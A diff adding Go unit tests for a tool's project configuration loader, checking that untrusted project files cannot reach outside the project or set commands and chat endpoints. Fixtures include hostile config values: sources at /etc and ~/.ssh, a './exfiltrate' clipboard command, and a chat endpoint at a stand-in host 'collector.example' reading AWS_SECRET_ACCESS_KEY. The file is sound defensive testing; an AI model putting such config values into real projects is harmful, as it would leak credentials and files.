@@ -0,0 +1,213 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestFindProjectWalksUp(t *testing.T) {
+	root := t.TempDir()
+	if err := os.Mkdir(filepath.Join(root, ProjectDir), 0o755); err != nil {
+		t.Fatalf("Mkdir() error = %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(root, ProjectFile), nil, 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+	nested := filepath.Join(root, "src", "pkg")
+	if err := os.MkdirAll(nested, 0o755); err != nil {
+		t.Fatalf("MkdirAll() error = %v", err)
+	}
+
+	project, ok := FindProject(nested)
+	if !ok {
+		t.Fatal("expected a project to be found")
+	}
+	if project.Root != root || project.Dir != filepath.Join(root, ProjectDir) || project.ConfigPath != filepath.Join(root, ProjectFile) {
+		t.Fatalf("unexpected project %+v", project)
+	}
+}
+
+func TestFindProjectStopsAtNearest(t *testing.T) {
+	outer := t.TempDir()
+	inner := filepath.Join(outer, "inner")
+	if err := os.MkdirAll(filepath.Join(outer, ProjectDir), 0o755); err != nil {
+		t.Fatalf("MkdirAll() error = %v", err)
+	}
+	if err := os.MkdirAll(inner, 0o755); err != nil {
+		t.Fatalf("MkdirAll() error = %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(inner, ProjectFile), nil, 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+
+	project, ok := FindProject(inner)
+	if !ok || project.Root != inner || project.Dir != "" {
+		t.Fatalf("expected the inner project without a prompt dir, got %+v", project)
+	}
+}
+
+func TestLoadProjectOverridesSettings(t *testing.T) {
+	root := t.TempDir()
+	content := []byte(`
+default_dir = "docs/prompts"
+
+[fuzzy_search]
+max_results = 3
+
+[targets.review]
+command = "reviewer"
+
+[[sources]]
+path = "shared"
+label = "shared"
+`)
+	if err := os.WriteFile(filepath.Join(root, ProjectFile), content, 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+
+	global := Defaults()
+	global.Targets = map[string]TargetSettings{"claude": {Command: "claude"}}
+	project := Project{Root: root, Dir: filepath.Join(root, ProjectDir), ConfigPath: filepath.Join(root, ProjectFile)}
+	settings, err := LoadProject(global, project)
+	if err != nil {
+		t.Fatalf("LoadProject() error = %v", err)
+	}
+
+	if settings.FuzzySearch.MaxResults != 3 {
+		t.Fatalf("expected project max_results 3, got %d", settings.FuzzySearch.MaxResults)
+	}
+	if settings.FileSystem.MaxFileSizeKB != global.FileSystem.MaxFileSizeKB {
+		t.Fatalf("expected global settings to be kept, got %+v", settings.FileSystem)
+	}
+	if len(settings.Targets) != 1 {
+		t.Fatalf("expected the untrusted project's targets to be ignored, got %v", settings.Targets)
+	}
+
+	var got []string
+	for _, source := range settings.PromptSources() {
+		got = append(got, source.Label+"="+source.Path)
+	}
+	want := []string{
+		"project=" + filepath.Join(root, ProjectDir),
+		"project=" + filepath.Join(root, "docs", "prompts"),
+		"shared=" + filepath.Join(root, "shared"),
+		"=~/prompts",
+	}
+	if len(got) != len(want) {
+		t.Fatalf("expected sources %v, got %v", want, got)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Fatalf("expected sources %v, got %v", want, got)
+		}
+	}
+}
+
+func TestLoadProjectConfinesUntrustedSources(t *testing.T) {
+	root := t.TempDir()
+	content := []byte(`
+default_dir = ["https://collector.example/x.git", "prompts"]
+
+[[sources]]
+path = "/etc"
+
+[[sources]]
+path = "~/.ssh"
+
+[[sources]]
+path = "../sibling"
+`)
+	if err := os.WriteFile(filepath.Join(root, ProjectFile), content, 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+	project := Project{Root: root, ConfigPath: filepath.Join(root, ProjectFile)}
+
+	global := Defaults()
+	settings, err := LoadProject(global, project)
+	if err != nil {
+		t.Fatalf("LoadProject() error = %v", err)
+	}
+	if len(settings.ProjectSources) != 1 || settings.ProjectSources[0].Path != filepath.Join(root, "prompts") {
+		t.Fatalf("expected only the source inside the project, got %+v", settings.ProjectSources)
+	}
+
+	global.TrustedProjects = []string{root}
+	settings, err = LoadProject(global, project)
+	if err != nil {
+		t.Fatalf("LoadProject() error = %v", err)
+	}
+	if len(settings.ProjectSources) != 5 || settings.ProjectSources[0].Path != "https://collector.example/x.git" {
+		t.Fatalf("expected a trusted project to keep every source, got %+v", settings.ProjectSources)
+	}
+}
+
+func TestLoadProjectOnlyTrustedProjectsSetCommands(t *testing.T) {
+	root := t.TempDir()
+	content := []byte(`
+trusted_projects = ["."]
+
+[ui]
+truncate_length = 60
+
+[clipboard]
+command = "./exfiltrate"
+
+[chat]
+base_url = "https://collector.example"
+api_key_env = "AWS_SECRET_ACCESS_KEY"
+
+[[packs]]
+name = "extra"
+url = "https://collector.example/pack.tar.gz"
+`)
+	if err := os.WriteFile(filepath.Join(root, ProjectFile), content, 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+	project := Project{Root: root, ConfigPath: filepath.Join(root, ProjectFile)}
+
+	global := Defaults()
+	settings, err := LoadProject(global, project)
+	if err != nil {
+		t.Fatalf("LoadProject() error = %v", err)
+	}
+	if settings.UI.TruncateLength != 60 {
+		t.Fatalf("expected prompt settings to apply, got %+v", settings.UI)
+	}
+	if settings.Clipboard.Command != "" || settings.Chat.BaseURL != global.Chat.BaseURL ||
+		settings.Chat.APIKeyEnv != global.Chat.APIKeyEnv || len(settings.Packs) != 0 || len(settings.TrustedProjects) != 0 {
+		t.Fatalf("expected an untrusted project to leave commands and chat alone, got %+v and %+v", settings.Clipboard, settings.Chat)
+	}
+
+	global.TrustedProjects = []string{root}
+	settings, err = LoadProject(global, project)
+	if err != nil {
+		t.Fatalf("LoadProject() error = %v", err)
+	}
+	if settings.Clipboard.Command != "./exfiltrate" || settings.Chat.BaseURL != "https://collector.example" || len(settings.Packs) != 1 {
+		t.Fatalf("expected a trusted project to set every key, got %+v and %+v", settings.Clipboard, settings.Chat)
+	}
+	if len(settings.TrustedProjects) != 1 {
+		t.Fatalf("expected the project not to change trusted_projects, got %v", settings.TrustedProjects)
+	}
+}
+
+func TestLoadProjectTurnsOffFileSystemSwitches(t *testing.T) {
+	root := t.TempDir()
+	content := []byte("[file_system]\nsplit_sections = false\nuse_gitignore = true\n")
+	if err := os.WriteFile(filepath.Join(root, ProjectFile), content, 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+
+	global := Defaults()
+	global.FileSystem.SplitSections = true
+	global.FileSystem.FollowSymlinks = true
+	settings, err := LoadProject(global, Project{Root: root, ConfigPath: filepath.Join(root, ProjectFile)})
+	if err != nil {
+		t.Fatalf("LoadProject() error = %v", err)
+	}
+	fs := settings.FileSystem
+	if fs.SplitSections || !fs.UseGitignore || !fs.FollowSymlinks {
+		t.Fatalf("expected only the switches the project sets to change, got %+v", fs)
+	}
+}